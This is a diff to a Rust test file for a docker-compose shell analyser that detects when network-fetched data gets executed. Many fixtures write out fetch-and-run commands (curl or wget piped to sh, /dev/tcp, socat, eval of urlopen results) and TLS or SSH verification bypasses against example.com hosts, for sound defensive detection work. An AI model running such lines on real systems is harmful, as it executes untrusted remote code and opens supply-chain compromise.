@@ -1,7 +1,7 @@
 //! What the host can send, and what it cannot.
 
 use super::*;
-use crate::compose::docker_compose::shell::{Use, uses};
+use crate::compose::docker_compose::shell::{Language, Use, uses, uses_of_arguments};
 
 fn executes(script: &str) -> bool {
     uses(script, &|name| name == HOST_DATA).get(HOST_DATA) == Some(&Use::Executed)
@@ -78,6 +78,32 @@ fn what_the_host_can_send_is_executed() {
         "cat > /etc/pip.conf <<EOF\n[global]\nindex-url = http://pypi.example.com/simple\nEOF\npip install app",
         "git config --global http.sslVerify false; git clone https://git.example.com/a/b",
         "eval \"$(cat /sys/class/dmi/id/product_serial)\"",
+        "npx --registry http://npm.example.com tool",
+        "uvx --index-url http://pypi.example.com/simple tool",
+        "uvx --allow-insecure-host pypi.example.com tool",
+        "NPM_CONFIG_STRICT_SSL=false npx tool",
+        "npm config set strict-ssl=false; npm ci",
+        "echo insecure > ~/.curlrc; curl -s https://x.example.com/i.sh | sh",
+        "echo -k >> ~/.curlrc; curl -s https://x.example.com/i.sh | sh",
+        "echo 'check_certificate = off' > ~/.wgetrc; wget -qO- https://x.example.com/i.sh | sh",
+        "printf '[http]\\n\\tsslVerify = false\\n' > ~/.gitconfig; git clone https://git.example.com/a/b",
+        "git config --global http.https://git.example.com.sslVerify false; git clone https://git.example.com/a/b",
+        "cat > ~/.ssh/config <<EOF\nHost *\n  StrictHostKeyChecking no\nEOF\ngit clone git@github.com:a/b.git",
+        "export GIT_SSH_COMMAND='ssh -o StrictHostKeyChecking=no'; sh -c 'git clone git@github.com:a/b.git'",
+        "URL=http://x.example.com/i.sh; sh -c 'curl -s $URL | sh'",
+        "sh < /dev/tcp/x.example.com/80",
+        "cat < /dev/tcp/x.example.com/80 | sh",
+        "socat - TCP:x.example.com:80 | sh",
+        "openssl s_client -quiet -connect x.example.com:443 | sh",
+        "{ curl -s http://x.example.com/i.sh; echo; } | sh",
+        "for i in a b; do curl -s http://x.example.com/$i; done | sh",
+        "if true; then curl -s http://x.example.com/i.sh; fi | sh",
+        "case $x in a) curl -s http://x.example.com/i.sh;; esac | sh",
+        "get() { curl -s http://x.example.com/i.sh; }\nget | sh",
+        "curl -s http://x.example.com/i.sh | tee >(sh)",
+        "curl -s http://x.example.com/i.sh |\n  sed s/a/b/ |\n  sh",
+        "curl -s http://x.example.com/i.sh | { sleep 1; sh; }",
+        "find /x -exec python3 -c 'import os, urllib.request; exec(urllib.request.urlopen(\"http://x.example.com\").read())' ';'",
     ] {
         assert!(executes(script), "{script}");
     }
@@ -129,8 +155,211 @@ fn what_is_authenticated_of_the_same_network_or_only_shown_is_not() {
         "echo api=http://api.example.com > /app/settings; exec app",
         "IP=$(curl -s http://ip.example.com); exec app --external-ip \"$IP\"",
         "case \"$(cat /sys/class/dmi/id/product_name)\" in *Google*) echo gcp;; esac; exec app",
+        "curl -fsSL https://get.example.com/i.sh | sh; curl -f http://health.example.com:8080/ping",
+        "curl -f http://health.example.com/ping && curl -fsSL https://get.example.com/i.sh | sh",
+        "if curl -sf http://health.example.com/ping; then curl -fsSL https://get.example.com/i.sh | sh; fi",
+        "until curl -sf http://health.example.com/ping; do sleep 1; done\ncurl -fsSL https://get.example.com/i.sh | sh",
+        "log() { echo \"$1\"; }\ncurl -f http://health.example.com/ping\nlog x\ncurl -fsSL https://get.example.com/i.sh | sh",
+        "IP=$(curl -s http://ip.example.com)\ncurl -fsSL https://get.example.com/i.sh | sh\nexec app --ip \"$IP\"",
+        "curl http://models.example.com/m.gguf -o /m.gguf; curl -fsSL https://get.example.com/i.sh | sh",
+        "</dev/tcp/db.example.com/5432; exec app",
+        "timeout 1 bash -c 'echo > /dev/tcp/db.example.com/5432' && exec app",
+        "socat TCP-LISTEN:3306,fork TCP:db.example.com:3306",
+        "openssl x509 -in /etc/cert.pem -noout; eval \"$(openssl rand -hex 3)\"",
+        "npx serve --url http://api.example.com",
+        "echo insecure > ~/.curlrc; curl -s https://x.example.com/health; exec app",
+        "echo 'check_certificate = on' > ~/.wgetrc; wget -qO- https://x.example.com/i.sh | sh",
     ] {
         assert!(!executes(script), "{script}");
+    }
+}
+
+fn list(words: &[&str]) -> bool {
+    let words: Vec<String> = words.iter().map(|word| (*word).to_owned()).collect();
+    uses_of_arguments(&words, &|name| name == HOST_DATA).get(HOST_DATA) == Some(&Use::Executed)
+}
+
+#[test]
+fn a_list_brings_what_it_starts() {
+    for words in [
+        &["deno", "run", "-A", "http://x.example.com/a.ts"][..],
+        &["npx", "--registry", "http://npm.example.com", "tool"],
+        &["uvx", "--index-url", "http://pypi.example.com/simple", "tool"],
+        &["sh", "-c", "curl http://x.example.com/i.sh | sh"],
+        &[
+            "python3",
+            "-c",
+            "import urllib.request as r; exec(r.urlopen('http://x.example.com').read())",
+        ],
+        &[
+            "node",
+            "--eval=fetch('http://x.example.com').then(r => r.text()).then(t => eval(t))",
+        ],
+    ] {
+        assert!(list(words), "{words:?}");
+    }
+    for words in [
+        &["deno", "run", "-A", "https://x.example.com/a.ts"][..],
+        &["deno", "run", "-A", "main.ts", "http://api.example.com"],
+        &["npx", "serve", "--url", "http://api.example.com"],
+        &["curl", "-f", "http://x.example.com/health"],
+        &["app", "--url", "http://x.example.com"],
+        &["node", "--eval=fetch('http://x.example.com')"],
+    ] {
+        assert!(!list(words), "{words:?}");
+    }
+}
+
+#[test]
+fn code_that_stands_in_the_word_of_its_option_is_read() {
+    for words in [
+        &["node", "--eval=eval(process.env.E)"][..],
+        &["perl", "-neeval $ENV{E}"],
+        &["python3", "-cimport os; os.system(os.environ['E'])"],
+    ] {
+        let words: Vec<String> = words.iter().map(|word| (*word).to_owned()).collect();
+        let found = uses_of_arguments(&words, &|name| name == "E");
+        assert_eq!(found.get("E"), Some(&Use::Executed), "{words:?}");
+    }
+}
+
+#[test]
+fn an_answer_that_code_executes() {
+    for (language, script) in [
+        (
+            Language::Python,
+            "import urllib.request\nexec(urllib.request.urlopen('http://x.example.com/a.py').read())",
+        ),
+        (
+            Language::Python,
+            "import requests\nURL = 'http://x.example.com/a'\nr = requests.get(URL)\ncode = r.text\nexec(code)",
+        ),
+        (
+            Language::Python,
+            "import requests, os\nr = requests.get('https://x.example.com/a', verify=False)\nos.system(r.text)",
+        ),
+        (
+            Language::Python,
+            "import httpx\nH = 'x.example.com'\nexec(httpx.get(f'http://{H}/a').text)",
+        ),
+        (
+            Language::Python,
+            "from urllib.request import urlretrieve\nurlretrieve('http://x.example.com/a', 'a.py')",
+        ),
+        (
+            Language::Node,
+            "const r = await fetch('http://x.example.com/a');\nconst t = await r.text();\neval(t)",
+        ),
+        (Language::Node, "import('http://x.example.com/a.js')"),
+        (
+            Language::Node,
+            "https.get('https://x.example.com/a', {rejectUnauthorized: false}, r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })",
+        ),
+        (
+            Language::Perl,
+            "use LWP::Simple; eval get('http://x.example.com/a')",
+        ),
+        (Language::Php, "include 'http://x.example.com/a.php';"),
+        (Language::Ruby, "eval URI.open('http://x.example.com/a').read"),
+    ] {
+        let uses = language.uses(script, &|name| name == HOST_DATA);
+        assert!(uses.contains(&(HOST_DATA.to_owned(), Use::Executed)), "{script}");
+    }
+    for (language, script) in [
+        (
+            Language::Python,
+            "import urllib.request\nurllib.request.urlopen('http://localhost:8080/health')",
+        ),
+        (
+            Language::Python,
+            "import requests, os\nrequests.get('http://hc.example.com/ping')\nos.system('nginx -s reload')",
+        ),
+        (
+            Language::Python,
+            "import requests\nexec(requests.get('https://x.example.com/a').text)",
+        ),
+        (
+            Language::Python,
+            "import requests, os\nrequests.post('http://m.example.com', json={})\nexec(open('/app/a.py').read())",
+        ),
+        (
+            Language::Python,
+            "import os\nAPI = os.environ.get('API', 'http://api.example.com')\nos.system('app --url ' + API)",
+        ),
+        (
+            Language::Node,
+            "fetch('http://hc.example.com').then(r => process.exit(r.ok ? 0 : 1))",
+        ),
+        (
+            Language::Node,
+            "require('http').get('http://hc.example.com', r => process.exit(r.statusCode === 200 ? 0 : 1))",
+        ),
+    ] {
+        let uses = language.uses(script, &|name| name == HOST_DATA);
+        assert!(!uses.contains(&(HOST_DATA.to_owned(), Use::Executed)), "{script}");
+    }
+}
+
+#[test]
+fn what_a_fixed_entry_of_the_environment_says_reaches_the_script() {
+    for (name, value, script) in [
+        ("URL", "http://x.example.com/i.sh", "curl -s $URL | sh"),
+        (
+            "URL",
+            "http://x.example.com/i.sh",
+            "sh -c 'curl -s \"$URL\" | sh'",
+        ),
+        (
+            "URL",
+            "http://x.example.com/i.py",
+            "python3 -c 'import os, urllib.request as r; exec(r.urlopen(os.environ[\"URL\"]).read())'",
+        ),
+        (
+            "GIT_SSL_NO_VERIFY",
+            "1",
+            "git clone https://x.example.com/a && node a/i.js",
+        ),
+        ("NODE_TLS_REJECT_UNAUTHORIZED", "0", "npm ci"),
+        ("NPM_CONFIG_STRICT_SSL", "false", "sh -c 'npm ci'"),
+        ("PIP_TRUSTED_HOST", "pypi.example.com", "pip install app"),
+        (
+            "GIT_SSH_COMMAND",
+            "ssh -o StrictHostKeyChecking=no",
+            "git clone git@github.com:a/b && node b/i.js",
+        ),
+    ] {
+        let said = said_by_entry(name, value);
+        let is_outside = |name: &str| name == HOST_DATA || said.iter().any(|each| each == name);
+        assert_eq!(
+            uses(script, &is_outside).get(HOST_DATA),
+            Some(&Use::Executed),
+            "{name}={value} {script}"
+        );
+    }
+    for (name, value, script) in [
+        ("URL", "https://x.example.com/i.sh", "curl -s $URL | sh"),
+        ("URL", "http://config:8080/i.sh", "curl -s $URL | sh"),
+        (
+            "API",
+            "http://api.example.com",
+            "until curl -sf $API/health; do sleep 1; done; exec app",
+        ),
+        (
+            "HTTP_PROXY",
+            "http://cache.example.com",
+            "curl -s https://x.example.com | sh",
+        ),
+        ("NODE_TLS_REJECT_UNAUTHORIZED", "0", "exec node server.js"),
+        ("NODE_TLS_REJECT_UNAUTHORIZED", "1", "npm ci"),
+        ("PIP_TRUSTED_HOST", "pypi", "pip install app"),
+    ] {
+        let said = said_by_entry(name, value);
+        let is_outside = |name: &str| name == HOST_DATA || said.iter().any(|each| each == name);
+        assert_ne!(
+            uses(script, &is_outside).get(HOST_DATA),
+            Some(&Use::Executed),
+            "{name}={value} {script}"
+        );
     }
 }
 
